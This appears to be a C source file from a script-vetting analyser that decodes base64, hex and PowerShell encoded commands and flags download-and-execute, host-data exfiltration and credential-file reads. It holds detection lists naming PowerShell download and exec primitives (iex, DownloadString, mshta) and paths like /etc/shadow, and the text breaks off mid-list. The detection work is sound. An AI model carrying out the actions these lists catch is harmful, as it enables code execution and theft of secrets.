#define DECODED_PREFIX "decoded: "

/* Per thread: the analysers run in parallel, and a decoded payload reaches
 * pv_scan_shell again through pv_analyze_py / pv_analyze_js. */
static _Thread_local int dec_depth;
static _Thread_local size_t dec_budget;

enum dec_lang { L_SHELL = 0, L_PS, L_PY, L_JS };

static void scan_cmd(const struct pv_source *src, size_t off, uint32_t row, const char *cmd, size_t n,
                     struct pv_findings *out);

static int b64v(unsigned char c)
{
	if (c >= 'A' && c <= 'Z')
		return c - 'A';
	if (c >= 'a' && c <= 'z')
		return c - 'a' + 26;
	if (c >= '0' && c <= '9')
		return c - '0' + 52;
	if (c == '+' || c == '-')
		return 62;
	if (c == '/' || c == '_')
		return 63;
	return -1;
}

static bool is_space(unsigned char c)
{
	return c == ' ' || c == '\t' || c == '\n' || c == '\r';
}

/* Base64 (standard or URL-safe alphabet, whitespace ignored, padding
 * optional) of s/n into out; what does not fit in cap is dropped. False
 * when s is not base64 or too short to be a payload. */
static bool b64_decode(const char *s, size_t n, unsigned char *out, size_t cap, size_t *outn)
{
	uint32_t acc = 0;
	int bits = 0;
	size_t o = 0, chars = 0;
	bool pad = false;
	for (size_t i = 0; i < n && o < cap; i++) {
		unsigned char c = (unsigned char)s[i];
		if (is_space(c))
			continue;
		if (c == '=') {
			pad = true;
			continue;
		}
		int v = b64v(c);
		if (v < 0 || pad)
			return false;
		chars++;
		acc = (acc << 6) | (uint32_t)v;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			out[o++] = (unsigned char)(acc >> bits);
		}
	}
	*outn = o;
	return chars >= 4 && o > 0;
}

static int hexv(unsigned char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = pv_lc(c);
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1;
}

/* Plain hex (xxd -r -p), whitespace ignored. */
static bool hex_decode(const char *s, size_t n, unsigned char *out, size_t cap, size_t *outn)
{
	size_t o = 0;
	int hi = -1;
	for (size_t i = 0; i < n && o < cap; i++) {
		unsigned char c = (unsigned char)s[i];
		if (is_space(c))
			continue;
		int v = hexv(c);
		if (v < 0)
			return false;
		if (hi < 0) {
			hi = v;
		} else {
			out[o++] = (unsigned char)(hi << 4 | v);
			hi = -1;
		}
	}
	*outn = o;
	return o >= 2;
}

static bool text_cp(uint32_t u)
{
	if (u == '\t' || u == '\n' || u == '\r' || u == '\f' || u == '\v')
		return true;
	return u >= 0x20 && u != 0x7F && !(u >= 0x80 && u < 0xA0) && u <= 0x10FFFF;
}

static size_t put_utf8(char *o, uint32_t u)
{
	if (u < 0x80) {
		o[0] = (char)u;
		return 1;
	}
	if (u < 0x800) {
		o[0] = (char)(0xC0 | u >> 6);
		o[1] = (char)(0x80 | (u & 0x3F));
		return 2;
	}
	if (u < 0x10000) {
		o[0] = (char)(0xE0 | u >> 12);
		o[1] = (char)(0x80 | ((u >> 6) & 0x3F));
		o[2] = (char)(0x80 | (u & 0x3F));
		return 3;
	}
	o[0] = (char)(0xF0 | u >> 18);
	o[1] = (char)(0x80 | ((u >> 12) & 0x3F));
	o[2] = (char)(0x80 | ((u >> 6) & 0x3F));
	o[3] = (char)(0x80 | (u & 0x3F));
	return 4;
}

/* UTF-16LE to UTF-8; false on anything that is not text. */
static bool utf16_text(const unsigned char *b, size_t n, char *out, size_t cap, size_t *outn)
{
	size_t o = 0;
	if (n < 2 || n % 2)
		return false;
	for (size_t i = 0; i + 1 < n && o + 4 <= cap; i += 2) {
		uint32_t u = (uint32_t)b[i] | (uint32_t)b[i + 1] << 8;
		if (u >= 0xD800 && u <= 0xDBFF) {
			if (i + 3 >= n)
				return false;
			uint32_t lo = (uint32_t)b[i + 2] | (uint32_t)b[i + 3] << 8;
			if (lo < 0xDC00 || lo > 0xDFFF)
				return false;
			u = 0x10000 + ((u - 0xD800) << 10) + (lo - 0xDC00);
			i += 2;
		} else if (u >= 0xDC00 && u <= 0xDFFF) {
			return false;
		}
		if (u == 0xFEFF && o == 0)
			continue; /* byte-order mark */
		if (!text_cp(u))
			return false;
		o += put_utf8(out + o, u);
	}
	*outn = o;
	return o > 0;
}

/* Bytes that are already text (ASCII / UTF-8): copied; false on binary. */
static bool utf8_text(const unsigned char *b, size_t n, char *out, size_t cap, size_t *outn)
{
	size_t o = 0;
	for (size_t i = 0; i < n && o < cap;) {
		unsigned char c = b[i];
		size_t k;
		uint32_t u;
		if (c < 0x80) {
			k = 1;
			u = c;
		} else if (c >= 0xC2 && c <= 0xDF) {
			k = 2;
			u = c & 0x1F;
		} else if (c >= 0xE0 && c <= 0xEF) {
			k = 3;
			u = c & 0x0F;
		} else if (c >= 0xF0 && c <= 0xF4) {
			k = 4;
			u = c & 0x07;
		} else {
			return false;
		}
		if (i + k > n) {
			if (i + k - n < k && i > 0)
				break; /* cut by the size bound */
			return false;
		}
		for (size_t j = 1; j < k; j++) {
			if ((b[i + j] & 0xC0) != 0x80)
				return false;
			u = u << 6 | (b[i + j] & 0x3F);
		}
		if (!text_cp(u) || o + k > cap)
			return false;
		memcpy(out + o, b + i, k);
		o += k;
		i += k;
	}
	*outn = o;
	return o > 0;
}

/* Decoded bytes as text. UTF-16LE (PowerShell -EncodedCommand,
 * [Text.Encoding]::Unicode) is recognised by its zero high bytes, or tried
 * first when utf16 says the consumer expects it. */
static bool to_text(const unsigned char *b, size_t n, bool utf16, char *out, size_t cap, size_t *outn)
{
	size_t zeros = 0;
	for (size_t i = 1; i < n; i += 2)
		if (b[i] == 0)
			zeros++;
	size_t half = n / 2;
	if (n >= 4 && zeros * 10 >= half * (utf16 ? 5 : 9) && utf16_text(b, n, out, cap, outn))
		return true;
	return utf8_text(b, n, out, cap, outn);
}

/* Re-report the findings of decoded text at the command's location. */
static void emit_decoded(struct ctx *x, const struct pv_findings *tmp)
{
	for (size_t i = 0; i < tmp->n; i++) {
		const struct pv_finding *f = &tmp->v[i];
		char detail[256];
		const char *d = f->detail ? f->detail : f->attr;
		if (strncmp(d, DECODED_PREFIX, strlen(DECODED_PREFIX)) == 0)
			snprintf(detail, sizeof detail, "%s", d);
		else
			snprintf(detail, sizeof detail, DECODED_PREFIX "%s", d);
		if (f->install_time && !x->src->install_time)
			pv_emit_install(x->out, x->src, f->attr, x->off, x->row, detail);
		else
			pv_emit(x->out, x->src, f->attr, x->off, x->row, detail);
	}
	if (tmp->oom)
		x->out->oom = true;
}

static void ps_judge(struct ctx *x, const char *s, size_t n, bool decoded);

/* Judge decoded text as code of lang, reporting into x. */
static void scan_decoded(struct ctx *x, const char *text, size_t n, enum dec_lang lang)
{
	if (n == 0 || dec_depth >= DEC_DEPTH || x->ndec >= DEC_PER_CMD || n > dec_budget)
		return;
	x->ndec++;
	dec_budget -= n;
	struct pv_source d = {x->src->path, text, n, x->src->install_time};
	struct pv_findings tmp = {0};
	dec_depth++;
	switch (lang) {
	case L_PY:
		d.path = "decoded.py";
		if (pv_analyze_py(&d, &tmp) < 0)
			tmp.oom = true;
		break;
	case L_JS:
		d.path = "decoded.js";
		if (pv_analyze_js(&d, &tmp) < 0)
			tmp.oom = true;
		break;
	case L_PS: {
		scan_cmd(&d, 0, 0, text, n, &tmp);
		struct ctx y = {&d, 0, 0, &tmp, 0, DEC_PER_CMD};
		ps_judge(&y, text, n, true);
		break;
	}
	case L_SHELL:
	default:
		scan_cmd(&d, 0, 0, text, n, &tmp);
		break;
	}
	dec_depth--;
	emit_decoded(x, &tmp);
	pv_findings_free(&tmp);
}

/* Decode (base64, or hex when hex) the encoded text s/n and judge it. */
static void decode_and_scan(struct ctx *x, const char *s, size_t n, bool hex, bool utf16, enum dec_lang lang)
{
	if (dec_depth >= DEC_DEPTH || x->ndec >= DEC_PER_CMD)
		return;
	if (n > DEC_IN_MAX)
		n = DEC_IN_MAX;
	unsigned char *raw = malloc(DEC_MAX);
	char *text = malloc(DEC_MAX + 1);
	size_t rn = 0, tn = 0;
	if (!raw || !text) {
		x->out->oom = true;
	} else if ((hex ? hex_decode(s, n, raw, DEC_MAX, &rn) : b64_decode(s, n, raw, DEC_MAX, &rn)) &&
	           to_text(raw, rn, utf16, text, DEC_MAX, &tn)) {
		text[tn] = '\0';
		scan_decoded(x, text, tn, lang);
	}
	free(raw);
	free(text);
}

/* Language of what a sink segment runs. */
static enum dec_lang sink_lang(const struct seginfo *s)
{
	if (s->cls & P_POWERSHELL)
		return L_PS;
	if (python_name(s->name))
		return L_PY;
	if (strcmp(s->name, "node") == 0 || strcmp(s->name, "nodejs") == 0 || strcmp(s->name, "deno") == 0 ||
	    strcmp(s->name, "bun") == 0)
		return L_JS;
	return L_SHELL;
}

/* The sink segment k's output reaches (see feeds), or -1. */
static int sink_of(const struct sh *p, const struct seginfo *si, int k)
{
	for (int j = p->seg[k].pipe_to, guard = 0; j >= 0 && guard < SH_MAX_SEG; j = p->seg[j].pipe_to, guard++)
		if (si[j].cls & P_SINK)
			return j;
	for (int a = k, guard = 0; a >= 0 && guard < SH_MAX_DEPTH * 2; guard++) {
		int par = p->seg[a].parent;
		if (par < 0 || p->seg[a].cstring)
			break;
		if (si[par].cls & P_SINK)
			return par;
		for (int j = p->seg[par].pipe_to, g2 = 0; j >= 0 && g2 < SH_MAX_SEG; j = p->seg[j].pipe_to, g2++)
			if (si[j].cls & P_SINK)
				return j;
		a = par;
	}
	return -1;
}

/* The segment piping into k, or -1. */
static int pipe_from(const struct sh *p, int k)
{
	for (int j = 0; j < p->nseg; j++)
		if (p->seg[j].pipe_to == k)
			return j;
	return -1;
}

static void buf_add(char *buf, size_t cap, size_t *len, const char *s, size_t n)
{
	if (*len + n > cap)
		n = cap - *len;
	memcpy(buf + *len, s, n);
	*len += n;
}

/* Literal data written to the stdin of decoding segment k: the arguments
 * of an echo / printf piped into it, or a here-string. False when there is
 * none, or it is not literal (variables, substitutions). */
static bool literal_input(const struct sh *p, const struct seginfo *si, int k, char *buf, size_t cap,
                          size_t *len)
{
	*len = 0;
	for (int t = si[k].prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_REDIR_IN)
			continue;
		const char *a = tok_s(p, t);
		if (memchr(a, '$', p->tok[t].n) || memchr(a, SUBST_MARK, p->tok[t].n))
			return false;
		buf_add(buf, cap, len, a, p->tok[t].n);
		return true;
	}
	int j = pipe_from(p, k);
	if (j < 0 || si[j].prog < 0 || (strcmp(si[j].name, "echo") != 0 && strcmp(si[j].name, "printf") != 0))
		return false;
	bool is_printf = strcmp(si[j].name, "printf") == 0, opts = true, first = true;
	for (int t = si[j].prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != j || p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (opts && !is_printf && a[0] == '-' && an <= 3 && strspn(a + 1, "neE") == an - 1)
			continue; /* echo -n / -e / -ne */
		opts = false;
		if (is_printf && first && memchr(a, '%', an)) {
			first = false;
			continue; /* printf '%s' DATA */
		}
		first = false;
		if (memchr(a, '$', an) || memchr(a, SUBST_MARK, an))
			return false;
		buf_add(buf, cap, len, a, an);
	}
	return *len > 0;
}

/* Can segment k decode the data piped in (base64 -d, openssl base64 -d,
 * xxd -r -p)? *hex is set for hex. */
static bool decoder_of(const struct sh *p, const struct seginfo *s, int k, bool *hex)
{
	*hex = false;
	if (!(s->cls & P_DECODE))
		return false;
	if (strcmp(s->name, "base64") == 0 || strcmp(s->name, "gbase64") == 0 || strcmp(s->name, "openssl") == 0)
		return true;
	if (strcmp(s->name, "xxd") == 0) {
		for (int t = s->prog + 1; t < p->ntok; t++)
			if (p->tok[t].seg == k && p->tok[t].kind == T_WORD && tok_s(p, t)[0] == '-' &&
			    strchr(tok_s(p, t), 'p'))
				*hex = true;
		return *hex;
	}
	return false;
}

/* echo DATA | base64 -d [| base64 -d ...] | sh, and friends: decode the
 * literal data and judge what runs. Also when the decoded data is written
 * to a file that a later segment runs. Returns true when a sink was found. */
static bool decode_pipeline(const struct sh *p, const struct seginfo *si, int k, struct ctx *x)
{
	bool hex;
	if (!decoder_of(p, &si[k], k, &hex) || dec_depth >= DEC_DEPTH || x->ndec >= DEC_PER_CMD)
		return false;
	char *in = malloc(DEC_IN_MAX);
	unsigned char *a = malloc(DEC_MAX), *b = malloc(DEC_MAX);
	char *text = malloc(DEC_MAX + 1);
	bool ran = false;
	size_t n = 0;
	if (!in || !a || !b || !text) {
		x->out->oom = true;
		goto out;
	}
	if (!literal_input(p, si, k, in, DEC_IN_MAX, &n))
		goto out;
	if (!(hex ? hex_decode(in, n, a, DEC_MAX, &n) : b64_decode(in, n, a, DEC_MAX, &n)))
		goto out;
	/* Further decoders down the pipe: base64 -d | base64 -d. */
	int last = k;
	for (int j = p->seg[k].pipe_to, guard = 0; j >= 0 && guard < 8; j = p->seg[j].pipe_to, guard++) {
		bool hx;
		if (!decoder_of(p, &si[j], j, &hx))
			break;
		size_t m;
		if (!(hx ? hex_decode((const char *)a, n, b, DEC_MAX, &m)
		         : b64_decode((const char *)a, n, b, DEC_MAX, &m)))
			goto out;
		unsigned char *sw = a;
		a = b;
		b = sw;
		n = m;
		last = j;
	}
	int sink = sink_of(p, si, last);
	if (sink < 0) {
		/* base64 -d > f; sh f / chmod +x f */
		struct files f = {.n = 0};
		for (int t = si[last].prog + 1; t < p->ntok; t++)
			if (p->tok[t].seg == last && p->tok[t].kind == T_REDIR_OUT)
				add_file(&f, tok_s(p, t));
		for (int j = last + 1; j < p->nseg && f.n; j++)
			if (p->seg[j].parent == p->seg[last].parent && uses_file(p, j, &si[j], &f)) {
				sink = j;
				break;
			}
	}
	if (sink < 0)
		goto out;
	ran = true;
	size_t tn;
	if (to_text(a, n, false, text, DEC_MAX, &tn)) {
		text[tn] = '\0';
		enum dec_lang lang = (si[sink].cls & P_SINK) ? sink_lang(&si[sink]) : L_SHELL;
		scan_decoded(x, text, tn, lang);
	}
out:
	free(in);
	free(a);
	free(b);
	free(text);
	return ran;
}

/* ---- inline code that decodes a literal ---------------------------------- */

/* Word-bounded, case-insensitive search (word characters: [A-Za-z0-9_-]).
 * A pattern edge that is not a word character needs no boundary. */
static bool has_word(const char *s, size_t n, const char *w)
{
	size_t m = strlen(w);
	bool wb = is_ident((unsigned char)w[0]) || w[0] == '-';
	bool we = is_ident((unsigned char)w[m - 1]) || w[m - 1] == '-';
	for (size_t i = 0; i + m <= n; i++) {
		if (!pv_istarts(s + i, n - i, w))
			continue;
		if (wb && i > 0 && (is_ident((unsigned char)s[i - 1]) || s[i - 1] == '-'))
			continue;
		if (we && i + m < n && (is_ident((unsigned char)s[i + m]) || s[i + m] == '-'))
			continue;
		return true;
	}
	return false;
}

static bool any_word(const char *s, size_t n, const char *const *list, size_t ln)
{
	for (size_t i = 0; i < ln; i++)
		if (has_word(s, n, list[i]))
			return true;
	return false;
}

#define ANY_WORD(s, n, list) any_word(s, n, list, sizeof list / sizeof *list)

/* Calls whose first argument is base64 text. */
static const char *const b64_calls[] = {
	"b64decode(", "decodebytes(", "decodestring(", "atob(", "base64_decode(", "decode_base64(",
	"decode64(", "frombase64string(", "buffer.from(", "new buffer(", "strict_decode64(",
	"urlsafe_decode64(",
};

/* Things that run code or commands, in any of the inline languages. */
static const char *const run_words[] = {
	"exec(", "eval(", "compile(", "system(", "popen(", "subprocess", "spawn(", "spawnsync(",
	"execsync(", "execfile(", "execfilesync(", "function(", "runinthiscontext(", "runinnewcontext(",
	"shell_exec(", "passthru(", "proc_open(", "iex", "invoke-expression", "[scriptblock]::create",
	".invoke(", "invoke-command", "start-process", "child_process", "os.exec", "pty.spawn(",
	"instance_eval", "class_eval", "load(",
};

/* Enclosing calls that run their argument as a shell command. */
static const char *const shell_calls[] = {
	"system", "popen", "call", "run", "check_output", "check_call", "getoutput",
	"getstatusoutput", "execsync", "spawn", "spawnsync", "execfile", "execfilesync",
	"shell_exec", "passthru", "proc_open", "popen2", "popen3", "popen4", "capture2", "capture3",
};

static bool name_in(const char *s, size_t n, const char *const *list, size_t ln)
{
	for (size_t i = 0; i < ln; i++)
		if (pv_ieq(s, n, list[i]))
			return true;
	return false;
}

/* Language of what runs the decode call at code[at]: look at the
 * enclosing calls, innermost first. */
static enum dec_lang consumer_lang(const char *code, size_t at, enum dec_lang own)
{
	size_t i = at;
	for (int level = 0; level < 4 && i > 0; level++) {
		int d = 0;
		bool open = false;
		while (i > 0 && !open) { /* the enclosing '(' */
			char c = code[--i];
			if (c == ')')
				d++;
			else if (c == '(' && d-- == 0)
				open = true;
		}
		if (!open)
			return own;
		size_t e = i;
		while (e > 0 && code[e - 1] == ' ')
			e--;
		size_t b = e;
		while (b > 0 && is_ident((unsigned char)code[b - 1]))
			b--;
		if (b == e)
			continue;
		const char *nm = code + b;
		size_t nl = e - b;
		if (name_in(nm, nl, shell_calls, sizeof shell_calls / sizeof *shell_calls))
			return L_SHELL;
		if (pv_ieq(nm, nl, "exec"))
			return own == L_PY ? L_PY : L_SHELL; /* Python exec runs code; node/php/perl/ruby run a command */
		if (pv_ieq(nm, nl, "eval") || pv_ieq(nm, nl, "compile") || pv_ieq(nm, nl, "function") ||
		    pv_ieq(nm, nl, "runinthiscontext") || pv_ieq(nm, nl, "runinnewcontext") || pv_ieq(nm, nl, "iex") ||
		    pv_ieq(nm, nl, "create"))
			return own;
	}
	return own;
}

/* Base64 literals handed to a decode call in inline code (python -c,
 * node -e, powershell -c ...): when the code runs something, decode them
 * and judge the result. Returns true when a payload was found. */
static bool inline_decode(struct ctx *x, const char *code, size_t n, enum dec_lang own)
{
	if (!ANY_WORD(code, n, run_words))
		return false;
	bool found = false;
	for (size_t i = 0; i < n && x->ndec < DEC_PER_CMD && dec_depth < DEC_DEPTH; i++) {
		size_t q = 0, at = i;
		for (size_t c = 0; c < sizeof b64_calls / sizeof *b64_calls; c++) {
			size_t m = strlen(b64_calls[c]);
			if (pv_istarts(code + i, n - i, b64_calls[c])) {
				q = i + m;
				break;
			}
		}
		size_t lb = 0, le = 0;
		if (q) {
			/* b64decode( b'...' ) / atob("...") / FromBase64String('...') */
			while (q < n && (code[q] == ' ' || code[q] == '\t'))
				q++;
			while (q < n && q - i < 64 && strchr("bBrRuU", code[q]) && code[q])
				q++;
			if (q >= n || (code[q] != '\'' && code[q] != '"' && code[q] != '`'))
				continue;
			char quote = code[q];
			lb = q + 1;
			le = lb;
			while (le < n && code[le] != quote)
				le++;
			if (le >= n)
				continue;
			if ((pv_istarts(code + i, n - i, "buffer.from(") || pv_istarts(code + i, n - i, "new buffer(")) &&
			    !pv_icontains(code + le, n - le < 24 ? n - le : 24, "base64"))
				continue;
		} else if (pv_istarts(code + i, n - i, ".decode(") && i > 0 &&
		           (code[i - 1] == '\'' || code[i - 1] == '"') &&
		           pv_icontains(code + i, n - i < 20 ? n - i : 20, "base64")) {
			/* Python 2: 'B64'.decode('base64') */
			char quote = code[i - 1];
			le = i - 1;
			lb = le;
			while (lb > 0 && code[lb - 1] != quote)
				lb--;
			if (lb == 0)
				continue;
			at = lb - 1;
		} else {
			continue;
		}
		if (le - lb < 8)
			continue;
		found = true;
		enum dec_lang lang = consumer_lang(code, at, own);
		decode_and_scan(x, code + lb, le - lb, false, own == L_PS, lang);
		i = le;
	}
	return found;
}

/* ---- PowerShell text ----------------------------------------------------- */

static const char *const ps_download[] = {
	"downloadstring", "downloadfile", "downloaddata", "downloadstringasync", "downloadfileasync",
	"invoke-webrequest", "invoke-restmethod", "iwr", "irm", "net.webclient", "start-bitstransfer",
	"httpclient", "msxml2.xmlhttp", "winhttp.winhttprequest", "webrequest]::create", "bitsadmin",
	"curl", "wget",
};
static const char *const ps_exec[] = {
	"iex", "invoke-expression", "start-process", "saps", "invoke-item", "[scriptblock]::create",
	".invoke(", "invoke-command", "icm", "rundll32", "regsvr32", "mshta", "msiexec", "wscript",
	"cscript", "cmd /c", "cmd.exe /c", "start",
};
static const char *const ps_upload[] = {
	".uploadstring(", ".uploadfile(", ".uploaddata(", ".uploadvalues(", "uploadstringasync",
	"-infile",
};
/* Host identity and credentials in PowerShell. */
static const char *const ps_identity[] = {
	"whoami", "hostname", "[environment]::username", "[environment]::machinename",
	"[environment]::userdomainname", "[system.environment]::username",
	"[system.environment]::machinename", "get-content", "gc", "get-childitem env:", "gci env:",
	"ls env:", "dir env:", "get-clipboard", "systeminfo", "ipconfig", "get-computerinfo",
	"[net.dns]::gethostname", "get-wmiobject", "get-ciminstance",
};

/* User / host identity variable names (not paths such as $HOME). */
static const char *const ps_id_vars[] = {
	"user", "username", "logname", "hostname", "computername", "userdomain",
};

struct ps_taint {
	char name[8][64];
	int n;
};

static bool ps_var_hot(const char *v, size_t vn, const struct ps_taint *pt)
{
	if (pv_is_secret_env_name(v, vn) || name_in(v, vn, ps_id_vars, sizeof ps_id_vars / sizeof *ps_id_vars))
		return true;
	for (int i = 0; pt && i < pt->n; i++)
		if (pv_ieq(v, vn, pt->name[i]))
			return true;
	return false;
}

/* Does the PowerShell expression s/n carry host identity or credentials? */
static bool ps_hostdata(const char *s, size_t n, const struct ps_taint *pt)
{
	if (ANY_WORD(s, n, ps_identity))
		return true;
	for (size_t i = 0; i < n; i++) {
		if (s[i] != '$')
			continue;
		size_t b = i + 1;
		if (b < n && s[b] == '{')
			b++;
		if (b + 4 <= n && pv_istarts(s + b, n - b, "env:"))
			b += 4;
		size_t e = b;
		while (e < n && is_ident((unsigned char)s[e]))
			e++;
		if (e > b && ps_var_hot(s + b, e - b, pt))
			return true;
	}
	return false;
}

/* $name = EXPR statements whose EXPR is host data. */
static void ps_taint_scan(const char *s, size_t n, struct ps_taint *pt)
{
	pt->n = 0;
	for (size_t i = 0; i < n && pt->n < 8; i++) {
		if (s[i] != '$' || (i > 0 && is_ident((unsigned char)s[i - 1])))
			continue;
		size_t b = i + 1, e = b;
		while (e < n && is_ident((unsigned char)s[e]))
			e++;
		size_t q = e;
		while (q < n && (s[q] == ' ' || s[q] == '\t'))
			q++;
		if (e == b || e - b >= 64 || q + 1 >= n || s[q] != '=' || s[q + 1] == '=')
			continue;
		size_t x0 = q + 1, x1 = x0;
		while (x1 < n && s[x1] != ';' && s[x1] != '\n')
			x1++;
		if (ps_hostdata(s + x0, x1 - x0, pt)) {
			for (size_t k = b; k < e; k++) /* PowerShell names ignore case */
				pt->name[pt->n][k - b] = (char)pv_lc((unsigned char)s[k]);
			pt->name[pt->n][e - b] = '\0';
			pt->n++;
		}
	}
}

static const char *const ps_data[] = {
	"$env:", "get-content", "gc", "get-childitem env:", "gci env:", "ls env:", "dir env:",
	"[environment]::", "[system.environment]::", "whoami", "hostname", "get-clipboard", "systeminfo",
	"ipconfig", "get-wmiobject", "get-ciminstance", "get-computerinfo", "get-itemproperty",
	"$home", "$pwd", "get-location", "[net.dns]::gethostname", "get-process",
};

/* A PowerShell script (decoded -EncodedCommand text, or a -Command string):
 * download-and-run and network use (decoded text only: the segment rules
 * see a plain -Command already), and uploads of host data. */
static void ps_judge(struct ctx *x, const char *s, size_t n, bool decoded)
{
	bool dl = ANY_WORD(s, n, ps_download);
	if (decoded) {
		if (dl) {
			if (!pv_findings_has(x->out, "perm-network"))
				report(x, B_PSNET, "perm-network", "PowerShell uses the network");
			if (ANY_WORD(s, n, ps_exec))
				report(x, B_DLEXEC, "download-exec", "PowerShell downloads and executes code");
		}
		if (ANY_WORD(s, n, ps_exec) && !pv_findings_has(x->out, "perm-process"))
			report(x, B_PSPROC, "perm-process", "PowerShell starts a process or runs a script string");
	}
	bool web = has_word(s, n, "invoke-webrequest") || has_word(s, n, "invoke-restmethod") ||
	           has_word(s, n, "iwr") || has_word(s, n, "irm");
	bool up = ANY_WORD(s, n, ps_upload) ||
	          (web && (has_word(s, n, "-body") || pv_icontains(s, n, "-method post") ||
	                   pv_icontains(s, n, "-method put") || pv_icontains(s, n, "-method \"post") ||
	                   pv_icontains(s, n, "-method 'post")));
	if (up && (has_word(s, n, "-infile") || ANY_WORD(s, n, ps_data)))
		report(x, B_EXFIL, "exfiltration", "PowerShell uploads host data (environment, files, identity)");
	/* A URL built from host data: iwr "http://x/?u=$u" after
	 * $u = $env:USERNAME, or ('http://x/?u=' + $env:USERNAME). */
	if (dl) {
		struct ps_taint pt;
		ps_taint_scan(s, n, &pt);
		for (size_t u = 0; u + 3 <= n; u++) {
			if (memcmp(s + u, "://", 3) != 0)
				continue;
			size_t q = u + 3;
			while (q < n && !is_space((unsigned char)s[q]) && s[q] != '\'' && s[q] != '"' && s[q] != ')' &&
			       s[q] != '`')
				q++;
			bool hot = ps_hostdata(s + u, q - u, &pt); /* variables inside the URL */
			/* 'http://x/?u=' + EXPR: the concatenated rest of the expression */
			size_t c = q < n && (s[q] == '\'' || s[q] == '"') ? q + 1 : q;
			while (c < n && (s[c] == ' ' || s[c] == '\t'))
				c++;
			if (!hot && c < n && s[c] == '+') {
				size_t lim = c;
				while (lim < n && lim - c < 160 && s[lim] != ';' && s[lim] != '\n' && s[lim] != ')')
					lim++;
				hot = ps_hostdata(s + c, lim - c, &pt);
			}
			if (hot) {
				report(x, B_EXFIL, "exfiltration", "PowerShell sends host data in a URL");
				return;
			}
		}
	}
}

/* powershell -EncodedCommand B64 (any unambiguous prefix, -e, -ec; options
 * may come before it): report, decode and judge the script. */
static bool enc_flag(const char *a, size_t an)
{
	if (an < 2 || (a[0] != '-' && a[0] != '/'))
		return false;
	const char *f = a + 1;
	size_t fn = an - 1;
	if (pv_ieq(f, fn, "ec"))
		return true;
	static const char full[] = "encodedcommand";
	if (fn > sizeof full - 1)
		return false;
	for (size_t i = 0; i < fn; i++)
		if (pv_lc((unsigned char)f[i]) != (unsigned char)full[i])
			return false;
	return true;
}

static void ps_encoded(const struct sh *p, int k, const struct seginfo *s, struct ctx *x)
{
	for (int t = s->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		if (!enc_flag(tok_s(p, t), p->tok[t].n))
			continue;
		report(x, B_PSENC, "obfuscation", "PowerShell encoded command (-EncodedCommand)");
		report(x, B_DECODE, "perm-decode", "PowerShell -EncodedCommand");
		report(x, B_PROC, "perm-process", "PowerShell runs an encoded command");
		for (int u = t + 1; u < p->ntok; u++) {
			if (p->tok[u].seg != k || p->tok[u].kind != T_WORD)
				continue;
			decode_and_scan(x, tok_s(p, u), p->tok[u].n, false, true, L_PS);
			break;
		}
		return;
	}
}

/* ---- exfiltration -------------------------------------------------------- */

/* Programs whose output describes the host or its user. */
static const char *const id_progs[] = {
	"whoami", "hostname", "id", "ifconfig", "ipconfig", "systeminfo", "hostnamectl", "sw_vers",
	"lsb_release", "pwd", "ls", "dir", "ps", "netstat", "who", "w", "last", "history", "groups",
	"users", "arp", "getent", "find", "tree", "ip", "get-childitem", "gci", "get-clipboard",
	"lastlog", "klist", "get-computerinfo", "cmdkey", "query",
};
/* Programs that output the files they are given (or their stdin). */
static const char *const file_readers[] = {
	"cat", "head", "tail", "tac", "less", "more", "strings", "tar", "zip", "gzip", "bzip2", "xz",
	"zstd", "7z", "xxd", "od", "hexdump", "base64", "gbase64", "base32", "openssl", "gpg", "dd", "type",
	"get-content", "gc", "nl", "cut", "sort", "uniq", "zcat", "grep", "egrep", "fgrep", "rg", "awk",
	"gawk", "sed", "jq", "sqlite3", "tr", "rev", "paste", "column", "iconv",
};
/* ... of which these take a pattern / script as their first operand. */
static const char *const pattern_first[] = {
	"grep", "egrep", "fgrep", "rg", "awk", "gawk", "sed", "jq", "tr",
};
static const char *const identity_vars[] = {
	"user", "username", "logname", "hostname", "computername", "userdomain", "userprofile",
	"home", "pwd",
};

static bool tainted(const struct sh *p, const char *name, size_t n)
{
	for (int i = 0; p && i < p->ntaint; i++)
		if (strlen(p->taint[i]) == n && memcmp(p->taint[i], name, n) == 0)
			return true;
	return false;
}

/* Strongest variable reference in s ($NAME, ${NAME}, %NAME%, $env:NAME):
 * 2 a token-like secret, 1 the user's or host's identity (or a variable
 * of p assigned such data), 0 neither. The name goes to buf. When label,
 * only references followed by ".label" (a DNS name built from them) count. */
static int var_refs(const struct sh *p, const char *s, size_t n, bool label, char *buf, size_t cap)
{
	int best = 0;
	for (size_t i = 0; i < n; i++) {
		size_t b;
		if (s[i] == '$') {
			b = i + 1;
			if (b < n && s[b] == '{')
				b++;
			if (b + 4 <= n && pv_istarts(s + b, n - b, "env:"))
				b += 4;
		} else if (s[i] == '%') {
			b = i + 1;
		} else {
			continue;
		}
		size_t e = b;
		while (e < n && is_ident((unsigned char)s[e]))
			e++;
		if (e == b)
			continue;
		size_t after = e;
		if (s[i] == '%') {
			if (e >= n || s[e] != '%')
				continue;
			after = e + 1;
		} else if (after < n && s[after] == '}') {
			after++;
		}
		if (label && !(after + 1 < n && s[after] == '.' && is_ident((unsigned char)s[after + 1])))
			continue;
		int kind = pv_is_secret_env_name(s + b, e - b)                                         ? 2
		           : (name_in(s + b, e - b, identity_vars, sizeof identity_vars / sizeof *identity_vars) ||
		              tainted(p, s + b, e - b))
		               ? 1
		               : 0;
		if (kind > best) {
			best = kind;
			size_t m = e - b < cap - 1 ? e - b : cap - 1;
			memcpy(buf, s + b, m);
			buf[m] = '\0';
		}
	}
	return best;
}

/* Does a SUBST_MARK in s stand for a DNS label ("$(whoami).x.example")? */
static bool subst_label(const char *s, size_t n)
{
	for (size_t i = 0; i + 2 < n; i++)
		if (s[i] == SUBST_MARK && s[i + 1] == '.' && is_ident((unsigned char)s[i + 2]))
			return true;
	return false;
}

/* Credential / host-identity files. */
static bool sensitive_word(const char *a, size_t an)
{
	static const char *const paths[] = {
		"/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/hostname", "/etc/group", "/etc/issue",
